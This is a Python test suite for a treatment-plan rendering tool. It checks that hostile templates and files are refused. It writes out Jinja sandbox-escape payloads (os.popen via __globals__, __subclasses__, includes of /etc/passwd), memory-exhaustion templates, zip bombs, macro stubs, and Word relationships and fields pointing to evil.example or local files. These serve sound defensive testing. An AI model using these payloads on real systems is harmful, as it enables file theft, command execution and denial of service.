"""Hostile and careless inputs: templates that try to reach files, exhaust memory or run
forever; Word packages that carry macros, links or zip bombs; plan files that are pipes,
devices or huge; text that would fool a terminal; outputs that would overwrite inputs.

Each is refused with exit 1 (2 for a usage error) and a clear message, within a few seconds
and a few hundred MB, and nothing is written or read outside the output folder. The hostile
files are made here, in the test, not committed as binaries."""

from __future__ import annotations

import collections
import datetime as dt
import io
import json
import os
import re
import subprocess
import sys
import threading
import time
import zipfile
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

import pytest
from click.testing import Result

from plandoc.render.context.build import build_context
from plandoc.render.markdown.writer import render_markdown
from plandoc.render.pipeline import render_bytes
from plandoc.render.sandbox import worker
from plandoc.render.sandbox.plain import plain
from plandoc.render.sandbox.templating import Picture
from plandoc.render.sandbox.worker import Limits
from tests.conftest import ROOT, SAMPLES, TODAY, plan_at, variant

Run = Callable[..., Result]
PLAN_DOCX = ROOT / "templates" / "plan.docx"
W_NS = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
SECONDS = 5.0
MEGABYTES = 512


@dataclass
class Bounded:
    code: int
    out: str
    err: str
    seconds: float
    peak_mb: float

    @property
    def output(self) -> str:
        return self.out + self.err


_MEASURE = """
import resource, subprocess, sys, time
start = time.monotonic()
done = subprocess.run(sys.argv[1:], capture_output=True, timeout=120)
seconds = time.monotonic() - start
peak = resource.getrusage(resource.RUSAGE_CHILDREN).ru_maxrss / 1024
sys.stdout.buffer.write(b"%d %f %f\\n" % (done.returncode, seconds, peak) + done.stdout + b"\\0" + done.stderr)
"""


def plandoc(*args: str, cwd: Path | None = None) -> Bounded:
    """Run plandoc in a process of its own, measuring the time it took and the peak memory of it
    and every process it started (the template worker included)."""
    done = subprocess.run(
        [sys.executable, "-c", _MEASURE, sys.executable, "-m", "plandoc", *args],
        capture_output=True,
        cwd=cwd or ROOT,
        check=True,
    )
    head, _, rest = done.stdout.partition(b"\n")
    code, seconds, peak = head.split()
    out, _, err = rest.partition(b"\0")
    return Bounded(int(code), out.decode(), err.decode(), float(seconds), float(peak))


def refused(result: Bounded, *words: str, code: int = 1) -> None:
    """Refused cleanly: the exit status, the words of the message, no traceback, in bounds."""
    assert result.code == code, result.output
    assert "Traceback" not in result.output and "internal error" not in result.output, result.output
    for word in words:
        assert word in result.output, result.output
    assert result.seconds < SECONDS + 3, f"took {result.seconds:.1f} s"
    assert result.peak_mb < MEGABYTES, f"used {result.peak_mb:.0f} MB"


def render_cbt(folder: Path, out: Path, *formats: str) -> Bounded:
    flags = [arg for fmt in formats or ("md",) for arg in ("-f", fmt)]
    return plandoc(
        "render", str(SAMPLES / "cbt.yaml"), *flags, "-o", str(out),
        "--templates", str(folder), "--today", TODAY.isoformat(),
    )  # fmt: skip


def practice(tmp_path: Path, files: dict[str, str | bytes]) -> Path:
    folder = tmp_path / "practice"
    for name, content in files.items():
        path = folder / name
        path.parent.mkdir(parents=True, exist_ok=True)
        if isinstance(content, bytes):
            path.write_bytes(content)
        else:
            path.write_text(content, encoding="utf-8")
    return folder


def word_template(
    body_xml: str = "", *, add: dict[str, bytes] | None = None, rels: str = "", types: str = ""
) -> bytes:
    """The built-in plan.docx with extra body XML at the start, extra parts, relationships or
    content types — a hostile practice template made on the spot."""
    source = zipfile.ZipFile(PLAN_DOCX)
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
        for name in source.namelist():
            data = source.read(name)
            if name == "word/document.xml" and body_xml:
                data = data.replace(b"<w:body>", b"<w:body>" + body_xml.encode(), 1)
            if name == "word/_rels/document.xml.rels" and rels:
                data = data.replace(b"</Relationships>", rels.encode() + b"</Relationships>")
            if name == "[Content_Types].xml" and types:
                data = data.replace(b"</Types>", types.encode() + b"</Types>")
            target.writestr(name, data)
        for name, data in (add or {}).items():
            target.writestr(name, data)
    return out.getvalue()


def paragraph(text: str) -> str:
    return f'<w:p><w:r><w:t xml:space="preserve">{text}</w:t></w:r></w:p>'


# --- templates cannot reach anything ---------------------------------------------------------

ESCAPES = [
    "{{ progress[0].chart.tpl.write_xml('%(target)s') }}",
    "{{ progress[0].chart.tpl.docx.save('%(target)s') }}",
    "{{ progress[0].chart.tpl.replace_zipname('docProps/app.xml', '/etc/passwd') }}",
    "{{ progress[0].chart.image_descriptor.read() }}",
    "{{ progress[0].chart.__class__.__mro__ }}",
    "{{ plan.plan.start_date.__class__.__subclasses__() }}",
    "{{ cycler.__init__.__globals__.os.popen('touch %(target)s') }}",
    "{{ joiner.__init__.__globals__ }}",
    "{{ namespace.__init__.__globals__ }}",
    "{{ range.__self__ }}",
    "{{ ''.format.__self__.__class__ }}",
    "{{ '{0.__class__.__base__.__subclasses__}'.format(plan) }}",
    "{{ self._TemplateReference__context.environment }}",
    "{{ config }}{{ request }}",
    "{% include '/etc/passwd' %}",
    "{% include '../../../../etc/passwd' %}",
]


@pytest.mark.parametrize("body", ESCAPES, ids=range(len(ESCAPES)))
@pytest.mark.parametrize("kind", ["md", "docx"])
def test_no_template_can_reach_files_or_python(tmp_path: Path, body: str, kind: str) -> None:
    target = tmp_path / "escaped"
    text = body.replace("%(target)s", str(target))
    if kind == "md":
        folder = practice(tmp_path, {"plan.md.j2": text})
    else:
        folder = practice(
            tmp_path, {"plan.docx": word_template(paragraph(text.replace("'", "&apos;")))}
        )
    result = render_cbt(folder, tmp_path / "out", kind)
    refused(result, "error:")
    assert not target.exists(), "the template wrote a file"
    assert "root:" not in result.output, "the template read a file"
    assert not (tmp_path / "out").exists() or not any((tmp_path / "out").iterdir())


def test_the_context_is_plain_data_for_every_sample_and_the_diff() -> None:
    """Structural, not a deny-list: every value a template can reach is text, a number, a date,
    a list or a mapping (a picture is a text marker)."""
    from plandoc.revise.diff import diff_plans
    from plandoc.revise.summary import summary_context

    for path in sorted(SAMPLES.glob("*.yaml")):
        plain(build_context(plan_at(path)))
    old, new = (plan_at(SAMPLES / "revisions" / f"burnout-v{n}.yaml") for n in (1, 2))
    plain(summary_context(diff_plans(old, new), old, new))
    with pytest.raises(TypeError, match="not plain data"):
        plain({"progress": [{"chart": object()}]})


@pytest.mark.parametrize(
    ("value", "message"),
    [
        ({"goals": [{"due": dt.datetime(2026, 1, 1)}]}, r"context\.goals\[0\]\.due: datetime"),
        ({"a": ({"b": 1}, {"c": {1: "x"}})}, r"context\.a\[1\]\.c: a key that is not text"),
        ({"a": [1, 2.5, None, True, dt.date(2026, 1, 1), "x", set()]}, r"context\.a\[6\]: set"),
        ({"f": print}, r"context\.f: builtin_function_or_method"),
    ],
)
def test_a_value_that_is_not_plain_data_is_named_where_it_stands(
    value: object, message: str
) -> None:
    with pytest.raises(TypeError, match=message):
        plain(value)


def test_plain_data_in_subclasses_is_still_plain_and_a_cycle_is_refused() -> None:
    marker = Picture.numbered(1)
    value = {"rows": [{"chart": marker}], "ordered": collections.OrderedDict(a=[1])}
    assert plain(value) is value
    loop: list[object] = []
    loop.append(loop)
    with pytest.raises(TypeError, match="values: not the context of a treatment plan"):
        plain({"loop": loop})


def test_word_pictures_are_markers_swapped_in_after_rendering() -> None:
    """The chart reaches a template as text; the renderer puts the picture where it stands."""
    data = render_bytes(build_context(plan_at(SAMPLES / "cbt.yaml")), "docx")
    with zipfile.ZipFile(io.BytesIO(data)) as package:
        document = package.read("word/document.xml").decode()
    assert document.count("<w:drawing>") == 3
    assert "\ue000" not in document and "picture:" not in document


def test_a_plan_cannot_forge_a_picture_marker(tmp_path: Path, cbt_text: str) -> None:
    text = variant(
        cbt_text, "title: Panic attacks", 'title: "Panic \\ue000picture:1\\ue001 attacks"'
    )
    path = tmp_path / "forged.yaml"
    path.write_text(text, encoding="utf-8")
    data = render_bytes(build_context(plan_at(path)), "docx")
    with zipfile.ZipFile(io.BytesIO(data)) as package:
        document = package.read("word/document.xml").decode()
    assert "Panic picture:1 attacks" in document and document.count("<w:drawing>") == 3


# --- templates are bounded --------------------------------------------------------------------

GROWTH = [
    "{% set ns = namespace(s='x') %}{% for i in range(40) %}{% set ns.s = ns.s ~ ns.s %}{% endfor %}",
    "{% set ns = namespace(s='x') %}{% for i in range(40) %}{% set ns.s = ns.s + ns.s %}{% endfor %}",
    "{% set ns = namespace(s=['x']) %}{% for i in range(40) %}{% set ns.s = ns.s + ns.s %}{% endfor %}",
    "{% set ns = namespace(n=3) %}{% for i in range(40) %}{% set ns.n = ns.n * ns.n %}{% endfor %}",
    "{{ 'x' * 10**10 }}",
    "{{ 7 ** 64 ** 64 }}",
    "{{ '{:5000000000}'.format(1) }}",
    "{{ '{:{}}'.format(1, 5000000000) }}",
    "{{ '%5000000000d' | format(1) }}",
    "{{ '%5000000000d' % 1 }}",
    "{{ '%*d' % (5000000000, 1) }}",
    "{{ 'x'.center(5000000000) }}",
    "{{ 'x' | center(5000000000) }}",
    "{{ 'x'.zfill(5000000000) }}",
    "{{ 'x\\t'.expandtabs(5000000000) }}",
    "{{ ('x' * 999999).replace('x', 'yyyy') }}",
    "{{ ('x' * 999999) | replace('x', 'yyyy') }}",
    "{{ (['x' * 999999] * 100) | join }}",
    "{{ '-'.join(['x' * 999999] * 100) }}",
    "{{ 'x' | indent(5000000000) }}",
    "{{ ('x ' * 400000) | wordwrap(1, wrapstring='y' * 99) }}",
    "{{ range(10) | batch(5000000000, 'x') | list }}",
    "{{ range(10) | slice(5000000000) | list }}",
    "{{ plan | tojson(indent=5000000000) }}",
    "{{ 'x'.translate({120: 'y' * 999999}) }}",
    "{% set x %}{% for i in range(99999) %}{{ 'y' * 999999 }}{% endfor %}{% endset %}{{ x }}",
    "{% for i in range(99999) %}{{ 'y' * 999999 }}{% endfor %}",
    "{% macro m(n) %}{{ m(n + 1) }}{% endmacro %}{{ m(0) }}",
    "{% set d = {'x': 'x'.center} %}{{ d.x(5000000000) }}",
    "{% set d = {'x': 'x'.zfill} %}{{ d['x'](5000000000) }}",
]


@pytest.mark.parametrize("body", GROWTH, ids=range(len(GROWTH)))
def test_templates_cannot_grow_without_bound(tmp_path: Path, body: str) -> None:
    result = render_cbt(practice(tmp_path, {"plan.md.j2": body}), tmp_path / "out")
    refused(result, "plan.md.j2")


def test_a_key_is_read_as_jinja_reads_it_and_a_method_still_wins_over_a_key() -> None:
    """``d.name`` on a plain mapping takes a short way to the key; Jinja's own order holds:
    an attribute of the mapping (``items``) comes before a key of that name."""
    from plandoc.render.sandbox.templating import make_env

    source = (
        "{% for k, v in d.items() %}{{ k }}={{ v }};{% endfor %}|{{ d.goals }}|"
        "{{ d.missing is undefined }}|{{ d.__class__ is undefined }}"
    )
    rendered = make_env(markdown=False).from_string(source).render(d={"items": 1, "goals": "g"})
    assert rendered == "items=1;goals=g;|g|yes|yes"  # true shown as a document shows it


def test_a_runaway_loop_stops_at_the_cpu_limit() -> None:
    """Through the library with a 1 s limit (the default is 5 s): the worker is stopped, the
    caller gets a clear error, and the next render works again."""
    loop = "{% for a in range(99999) %}{% for b in range(99999) %}{% endfor %}{% endfor %}"
    context = build_context(plan_at(SAMPLES / "cbt.yaml"))
    with _folder({"plan.md.j2": loop}) as folder:
        start = time.monotonic()
        with pytest.raises(Exception, match=r"processor time|longer than"):
            render_markdown(context, templates=[folder], limits=Limits(cpu_seconds=1))
        assert time.monotonic() - start < 8
    assert render_markdown(context, limits=Limits(cpu_seconds=1)).startswith("# ")


def test_the_limits_hold_when_the_library_is_called_from_a_thread() -> None:
    loop = "{% for a in range(99999) %}{% for b in range(99999) %}{% endfor %}{% endfor %}"
    context = build_context(plan_at(SAMPLES / "cbt.yaml"))
    outcome: list[str] = []
    with _folder({"plan.md.j2": loop}) as folder:

        def work() -> None:
            try:
                render_markdown(context, templates=[folder], limits=Limits(cpu_seconds=1))
                outcome.append("rendered")
            except Exception as exc:  # the error is the expected outcome
                outcome.append(str(exc))

        thread = threading.Thread(target=work)
        thread.start()
        thread.join(timeout=20)
    assert not thread.is_alive() and outcome and "processor time" in outcome[0]


def test_the_default_cpu_limit_through_the_command_line(tmp_path: Path) -> None:
    loop = "{% for a in range(99999) %}{% for b in range(99999) %}{% endfor %}{% endfor %}"
    result = render_cbt(practice(tmp_path, {"plan.md.j2": loop}), tmp_path / "out")
    refused(result, "more than 5 s of processor time")


def test_a_worker_that_dies_is_replaced(tmp_path: Path) -> None:
    context = build_context(plan_at(SAMPLES / "cbt.yaml"))
    render_markdown(context)
    alive = [w.process for w in worker._WORKERS.values() if w.process and w.process.poll() is None]
    assert alive  # the one that rendered, and any other lane's still running (a redline's)
    for process in alive:
        os.killpg(process.pid, 9)
    assert render_markdown(context).startswith("# ")


class _folder:
    """A practice folder in a temporary directory, as a context manager."""

    def __init__(self, files: dict[str, str]) -> None:
        import tempfile

        self.tmp = tempfile.TemporaryDirectory()
        self.files = files

    def __enter__(self) -> Path:
        folder = Path(self.tmp.name)
        for name, text in self.files.items():
            (folder / name).write_text(text, encoding="utf-8")
        return folder

    def __exit__(self, *exc: object) -> None:
        self.tmp.cleanup()


# --- Word packages from outside ----------------------------------------------------------------


def zip_bomb(size_mb: int) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
        target.writestr(
            "[Content_Types].xml", zipfile.ZipFile(PLAN_DOCX).read("[Content_Types].xml")
        )
        with target.open("word/document.xml", "w") as part:
            chunk = b"\0" * (1024 * 1024)
            for _ in range(size_mb):
                part.write(chunk)
    return out.getvalue()


def many_entries(count: int) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as target:
        for n in range(count):
            target.writestr(f"x/{n}", b"")
    return out.getvalue()


EXTERNAL = 'TargetMode="External"'
PACKAGES = {
    "zip-bomb": (lambda: zip_bomb(300), "unpacks to"),
    "ratio-bomb": (lambda: zip_bomb(12), "compressed"),
    "entries": (lambda: many_entries(5000), "entries"),
    "macros": (
        lambda: word_template(add={"word/vbaProject.bin": b"\xd0\xcf\x11\xe0macro"}),
        "vbaProject.bin",
    ),
    "macro-type": (
        lambda: word_template(
            types='<Override PartName="/word/x.xml" ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/>'
        ),
        "macroEnabled",
    ),
    "activex": (lambda: word_template(add={"word/activeX/activeX1.xml": b"<x/>"}), "activeX"),
    "ole": (lambda: word_template(add={"word/embeddings/oleObject1.bin": b"ole"}), "embeddings"),
    "attached-template": (
        lambda: word_template(
            rels=f'<Relationship Id="rIdT" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="https://evil.example/t.dotm" {EXTERNAL}/>'
        ),
        "attachedTemplate",
    ),
    "remote-image": (
        lambda: word_template(
            rels=f'<Relationship Id="rIdI" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/image" Target="https://evil.example/pixel.png" {EXTERNAL}/>'
        ),
        "links outside content",
    ),
    "file-link": (
        lambda: word_template(
            rels=f'<Relationship Id="rIdF" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/hyperlink" Target="file:///etc/passwd" {EXTERNAL}/>'
        ),
        "local file",
    ),
    "include-field": (
        lambda: word_template(
            '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>INCLUDEPICTURE "file:///etc/hostname" \\d</w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
        ),
        "INCLUDEPICTURE",
    ),
    "split-field": (
        lambda: word_template(
            '<w:p><w:r><w:instrText>INCLUDE</w:instrText></w:r><w:r><w:instrText>TEXT "/etc/passwd"</w:instrText></w:r></w:p>'
        ),
        "INCLUDE",
    ),
    "simple-field": (
        lambda: word_template(
            '<w:p><w:fldSimple w:instr="LINK Excel.Sheet.8 &quot;C:\\\\x.xls&quot;"/></w:p>'
        ),
        "LINK",
    ),
    "object": (lambda: word_template("<w:p><w:r><w:object/></w:r></w:p>"), "<w:object>"),
    "entities": (
        lambda: word_template(
            add={"word/header9.xml": b'<!DOCTYPE x [<!ENTITY a "aaaa">]><x>&a;</x>'}
        ),
        "entities",
    ),
    "not-a-zip": (lambda: b"plain text, not a Word file", "not a Word (.docx) file"),
}


@pytest.mark.parametrize("name", PACKAGES)
def test_hostile_word_templates_are_refused_everywhere(tmp_path: Path, name: str) -> None:
    make, words = PACKAGES[name]
    folder = practice(tmp_path, {"plan.docx": make()})
    refused(render_cbt(folder, tmp_path / "out", "docx"), words)
    refused(render_cbt(folder, tmp_path / "out", "pdf"), words)
    redline = plandoc(
        "diff", *(str(SAMPLES / "revisions" / f"burnout-v{n}.yaml") for n in (1, 2)),
        "-f", "redline", "-o", str(tmp_path / "out" / "r.docx"), "--templates", str(folder),
        "--today", TODAY.isoformat(),
    )  # fmt: skip
    refused(redline, words)
    linted = plandoc("templates", "check", str(folder))
    refused(linted, words, "[template.docx]")
    assert not (tmp_path / "out").exists() or not any((tmp_path / "out").iterdir())


def test_a_field_whose_words_come_from_the_template_is_refused(tmp_path: Path) -> None:
    body = '<w:p><w:r><w:instrText>{{ "INCL" ~ "UDEPICTURE" }} "x"</w:instrText></w:r></w:p>'
    folder = practice(tmp_path, {"plan.docx": word_template(body)})
    refused(render_cbt(folder, tmp_path / "out", "docx"), "holds the field {{")


def test_a_web_hyperlink_in_a_template_is_fine(tmp_path: Path) -> None:
    rel = f'<Relationship Id="rIdW" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/hyperlink" Target="https://practice.example/" {EXTERNAL}/>'
    folder = practice(tmp_path, {"plan.docx": word_template(rels=rel)})
    result = render_cbt(folder, tmp_path / "out", "docx")
    assert result.code == 0, result.output


# --- template folders ----------------------------------------------------------------------------


def test_symlinks_in_a_template_folder_are_refused(tmp_path: Path) -> None:
    secret = tmp_path / "secret.txt"
    secret.write_text("the password is hunter2")
    folder = practice(tmp_path, {"md/block.md.j2": "x"})
    (folder / "plan.md.j2").symlink_to(secret)
    refused(render_cbt(folder, tmp_path / "out"), "symbolic link")
    linked_dir = practice(tmp_path / "b", {"plan.md.j2": "{{ title }}"})
    (linked_dir / "orientations").symlink_to(ROOT / "templates" / "orientations")
    refused(render_cbt(linked_dir, tmp_path / "out2"), "symbolic link")
    linted = plandoc("templates", "check", str(folder))
    refused(linted, "symbolic link", "[template.link]")
    assert "hunter2" not in linted.output


def test_a_template_folder_that_is_itself_a_link_is_refused(tmp_path: Path) -> None:
    """--templates LINK (or a practice file's `templates:` naming one) could lead anywhere."""
    real = practice(tmp_path / "real", {"plan.md.j2": "{{ title }}"})
    link = tmp_path / "link"
    link.symlink_to(real)
    refused(render_cbt(link, tmp_path / "out"), "template folder is a symbolic link")
    assert not (tmp_path / "out").exists() or not any((tmp_path / "out").iterdir())


def test_include_of_a_linked_template_is_refused(tmp_path: Path) -> None:
    secret = tmp_path / "secret.txt"
    secret.write_text("the password is hunter2")
    folder = practice(tmp_path, {"plan.md.j2": "{% include 'part.md.j2' %}"})
    (folder / "part.md.j2").symlink_to(secret)
    result = render_cbt(folder, tmp_path / "out")
    refused(result, "symbolic link")
    assert "hunter2" not in result.output


def test_export_never_writes_through_a_link(tmp_path: Path, run: Run) -> None:
    outside = tmp_path / "outside.txt"
    outside.write_text("keep me")
    folder = tmp_path / "practice"
    folder.mkdir()
    (folder / "diff.md.j2").symlink_to(outside)
    result = run("templates", "export", "diff", str(folder), "--force")
    assert result.exit_code == 0, result.output
    assert outside.read_text() == "keep me"
    assert not (folder / "diff.md.j2").is_symlink()


# --- hostile plan files -----------------------------------------------------------------------------


def test_a_fifo_is_refused_without_blocking(tmp_path: Path) -> None:
    fifo = tmp_path / "plan.yaml"
    os.mkfifo(fifo)
    refused(plandoc("check", str(fifo)), "not a regular file")
    refused(
        plandoc("render", str(fifo), "-f", "md", "-o", str(tmp_path / "out")), "not a regular file"
    )
    refused(plandoc("check", str(tmp_path)), "not a regular file")  # a folder holding it


@pytest.mark.parametrize("device", ["/dev/zero", "/dev/urandom"])
def test_a_device_is_refused(device: str) -> None:
    refused(plandoc("check", device), "not a regular file")


def test_a_huge_file_is_refused_from_its_size(tmp_path: Path) -> None:
    huge = tmp_path / "huge.yaml"
    with huge.open("wb") as handle:  # sparse: 3 GiB on paper, nothing on disk
        handle.truncate(3 * 1024**3)
    refused(plandoc("check", str(huge)), "larger than 2 MiB")


def test_numbers_out_of_range_are_findings_and_the_batch_goes_on(
    tmp_path: Path, cbt_text: str
) -> None:
    bad = tmp_path / "a.yaml"
    bad.write_text(cbt_text.replace("\n  version: 1\n", "\n  version: " + "9" * 309 + "\n", 1))
    good = tmp_path / "b.yaml"
    good.write_text(cbt_text)
    result = plandoc("check", str(bad), str(good), "--today", TODAY.isoformat())
    refused(result, "too large a number", "[yaml.value]", "2 plan(s) checked, 1 with errors")
    rendered = plandoc(
        "render",
        str(bad),
        str(good),
        "-f",
        "md",
        "-o",
        str(tmp_path / "out"),
        "--today",
        TODAY.isoformat(),
    )
    refused(rendered, "too large a number")
    assert (tmp_path / "out" / "b.md").is_file()


def test_control_characters_are_a_check_finding_so_check_and_render_agree(
    tmp_path: Path, cbt_text: str
) -> None:
    for text in ('"Maya\\u0007"', '"Maya\\uFFFE"', '"Maya\\x1b[2J"'):
        plan = tmp_path / "plan.yaml"
        plan.write_text(variant(cbt_text, "name: Maya Okafor\n", f"name: {text}\n"))
        refused(
            plandoc("check", str(plan), "--today", TODAY.isoformat()),
            "control character",
            "[text.control-character]",
        )
        refused(
            plandoc("render", str(plan), "-f", "docx", "-o", str(tmp_path / "out")),
            "control character",
        )


def test_a_raw_control_character_is_reported_at_its_line_and_column(
    tmp_path: Path, cbt_text: str
) -> None:
    plan = tmp_path / "plan.yaml"
    plan.write_text(variant(cbt_text, "name: Maya Okafor\n", "name: Maya\x07Okafor\n"))
    line, column = next(
        (n, t.index("\x07") + 1)
        for n, t in enumerate(plan.read_text().splitlines(), 1)
        if "\x07" in t
    )
    refused(
        plandoc("check", str(plan)), f"{plan}:{line}:{column}: error: U+0007 is a control character"
    )


def test_terminal_escapes_in_a_plan_are_shown_escaped(tmp_path: Path, cbt_text: str) -> None:
    plan = tmp_path / "plan.yaml"
    plan.write_text(
        variant(
            cbt_text,
            "  status: active\n",
            '  status: active\n  "\\e[2J\\e[32mALL PLANS OK\\e[0m": 1\n',
        )
    )
    result = plandoc("check", str(plan), "--today", TODAY.isoformat())
    refused(result, "\\x1b[2J")
    assert "\x1b" not in result.output


def test_a_broken_pipe_ends_quietly(tmp_path: Path) -> None:
    done = subprocess.run(
        f"{sys.executable} -m plandoc check {SAMPLES}/*.yaml --today 2026-11-01 | head -1",
        shell=True, capture_output=True, text=True, cwd=ROOT, check=False,
    )  # fmt: skip
    assert "Traceback" not in done.stderr and "internal error" not in done.stderr, done.stderr
    assert "BrokenPipe" not in done.stderr


def test_ids_with_a_newline_and_blank_names_are_refused(tmp_path: Path, cbt_text: str) -> None:
    text = variant(cbt_text, "  name: Daniel Reyes\n", '  name: "   "\n')
    text = variant(text, "- id: G1\n", '- id: "G1\\n"\n')
    plan = tmp_path / "plan.yaml"
    plan.write_text(text)
    result = plandoc("check", str(plan), "--today", TODAY.isoformat())
    refused(result, "`clinician.name` is empty", "`goals[0].id` is `G1\\x0a`")


# --- nothing lost, nothing overwritten -----------------------------------------------------------

PAIR = [str(SAMPLES / "revisions" / f"agoraphobia-v{n}.yaml") for n in (1, 2)]


def test_diff_never_overwrites_an_input(tmp_path: Path) -> None:
    copy = tmp_path / "v2.yaml"
    copy.write_bytes(Path(PAIR[1]).read_bytes())
    before = copy.read_bytes()
    for force in ((), ("--force",)):
        refused(
            plandoc("diff", PAIR[0], str(copy), "-f", "md", "-o", str(copy), *force),
            "input",
            code=2,
        )
    assert copy.read_bytes() == before


@pytest.mark.parametrize("fmt", ["md", "docx", "redline"])
def test_diff_replaces_only_its_own_earlier_output(tmp_path: Path, fmt: str) -> None:
    target = tmp_path / "out.file"
    target.write_text("a letter to the client's GP")
    refused(plandoc("diff", *PAIR, "-f", fmt, "-o", str(target)), "pass --force", code=2)
    assert target.read_text() == "a letter to the client's GP"
    assert plandoc("diff", *PAIR, "-f", fmt, "-o", str(target), "--force").code == 0
    again = plandoc("diff", *PAIR, "-f", fmt, "-o", str(target))
    assert again.code == 0, again.output
    other = "docx" if fmt == "md" else "md"
    refused(plandoc("diff", *PAIR, "-f", other, "-o", str(target)), "pass --force", code=2)


def test_render_never_writes_over_an_input(tmp_path: Path, cbt_text: str) -> None:
    plan = tmp_path / "plan.md"  # a plan file that happens to end in .md
    plan.write_text(cbt_text)
    result = plandoc(
        "render", str(plan), "-f", "md", "-o", str(tmp_path), "--today", TODAY.isoformat()
    )
    refused(result, "never overwrites an input", code=1)
    assert plan.read_text() == cbt_text


def test_a_plans_outputs_are_written_all_or_none(tmp_path: Path) -> None:
    out = tmp_path / "out"
    (out / "cbt.md").mkdir(parents=True)  # a folder in the way of the Markdown file
    (out / "cbt.docx").write_bytes(b"the previous Word file")
    result = plandoc(
        "render",
        str(SAMPLES / "cbt.yaml"),
        "-f",
        "docx",
        "-f",
        "md",
        "-o",
        str(out),
        "--today",
        TODAY.isoformat(),
    )
    refused(result, "cannot write", "0 file(s) written")
    assert (out / "cbt.docx").read_bytes() == b"the previous Word file"
    assert sorted(p.name for p in out.iterdir()) == ["cbt.docx", "cbt.md"]


def test_a_long_output_name_works_and_leaves_no_temporary_file(
    tmp_path: Path, cbt_text: str
) -> None:
    plan = tmp_path / f"{'x' * 245}.yaml"
    plan.write_text(cbt_text)
    out = tmp_path / "out"
    result = plandoc(
        "render", str(plan), "-f", "docx", "-f", "md", "-o", str(out), "--today", TODAY.isoformat()
    )
    assert result.code == 0, result.output
    assert sorted(p.suffix for p in out.iterdir()) == [".docx", ".md"]


# --- small ones --------------------------------------------------------------------------------------


def test_none_never_reaches_a_document_and_numbers_read_as_people_write_them(
    tmp_path: Path, cbt_text: str
) -> None:
    text = variant(
        cbt_text,
        "instruments:\n",
        "instruments:\n  - {id: steps, name: Steps walked, min: 0, lower_is_better: false}\n",
    )
    text = text.replace(
        "\nmeasurements:\n",
        "\nmeasurements:\n  - {instrument: steps, date: 2026-10-01, score: 1234567.25}\n  - {instrument: steps, date: 2026-10-08, score: 1300000.5}\n",
        1,
    )
    plan = tmp_path / "plan.yaml"
    plan.write_text(text)
    context = build_context(plan_at(plan))
    markdown = render_bytes(context, "md").decode()
    assert "None" not in markdown and "1234567.25" in markdown and "e+06" not in markdown
    with zipfile.ZipFile(io.BytesIO(render_bytes(context, "docx"))) as package:
        document = package.read("word/document.xml").decode()
    assert ">None<" not in document and "e+06" not in document and "1300000.5" in document


def test_plan_text_stays_literal_in_word_and_markdown(tmp_path: Path, cbt_text: str) -> None:
    words = "{_{ plan }_} {{ plan }} {% if x %} my_password_1 all_or_nothing"
    plan = tmp_path / "plan.yaml"
    plan.write_text(variant(cbt_text, "title: Panic attacks", f'title: "{words}"'))
    context = build_context(plan_at(plan))
    from tests.test_render import body_text, docx_parts

    assert words in body_text(docx_parts(render_bytes(context, "docx")))
    markdown = render_bytes(context, "md").decode()
    assert "my\\_password\\_1 all\\_or\\_nothing" in markdown


def test_a_very_long_word_stays_inside_the_page(tmp_path: Path, cbt_text: str) -> None:
    word = "Supercalifragilistic" * 500
    plan = tmp_path / "plan.yaml"
    plan.write_text(variant(cbt_text, "title: Panic attacks", f"title: {word}"))
    from tests.test_render import docx_parts

    document = docx_parts(render_bytes(build_context(plan_at(plan)), "docx"))["word/document.xml"]
    for table in document.iter(f"{{{W_NS}}}tbl"):
        widths = [int(c.get(f"{{{W_NS}}}w")) for c in table.iter(f"{{{W_NS}}}gridCol")]
        assert sum(widths) <= 9746 + 10, widths
        layout = table.find(f"{{{W_NS}}}tblPr/{{{W_NS}}}tblLayout")
        assert layout is not None and layout.get(f"{{{W_NS}}}type") == "fixed"


def test_worker_results_are_not_unpickled() -> None:
    """The worker answers in framed bytes; nothing it sends is turned back into objects."""
    source = (ROOT / "src" / "plandoc" / "render" / "sandbox" / "worker.py").read_text()
    assert source.count("pickle.loads") == 1 and "def serve" in source.split("pickle.loads")[0]


def test_check_json_escapes_every_control_character(tmp_path: Path, cbt_text: str) -> None:
    plan = tmp_path / "plan.yaml"
    plan.write_text(variant(cbt_text, "  status: active\n", '  status: "\\e[2J\\u202e"\n'))
    result = plandoc("check", str(plan), "--format", "json")
    assert result.code == 1 and "\x1b" not in result.out and "\u202e" not in result.out
    json.loads(result.out)


def test_nothing_outside_the_output_folder_is_written(tmp_path: Path) -> None:
    """A whole hostile run leaves the home folder and the samples as they were."""
    before = {p: p.stat().st_mtime_ns for p in SAMPLES.rglob("*")}
    folder = practice(
        tmp_path, {"plan.md.j2": ESCAPES[0].replace("%(target)s", str(SAMPLES / "x"))}
    )
    render_cbt(folder, tmp_path / "out")
    assert {p: p.stat().st_mtime_ns for p in SAMPLES.rglob("*")} == before
    assert not re.search(r"\.plandoc-", " ".join(str(p) for p in tmp_path.rglob("*")))


def test_a_stuck_libreoffice_is_killed_with_its_children_and_the_word_file_is_kept(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    from plandoc.render.pipeline import RenderOptions, render_file

    pids = tmp_path / "pids"
    fake = tmp_path / "soffice"
    fake.write_text(f"#!/bin/sh\nsleep 300 &\necho $! >> {pids}\necho $$ >> {pids}\nsleep 300\n")
    fake.chmod(0o755)
    monkeypatch.setenv("PLANDOC_SOFFICE", str(fake))
    options = RenderOptions(formats=("pdf",), outdir=tmp_path / "out", today=TODAY, pdf_timeout=1)
    start = time.monotonic()
    result = render_file(SAMPLES / "cbt.yaml", options)
    assert time.monotonic() - start < 10
    assert "did not finish converting within 1 s" in result.error
    assert "the Word file was written instead" in result.error
    assert [p.name for p in result.written] == ["cbt.docx"]
    time.sleep(0.2)
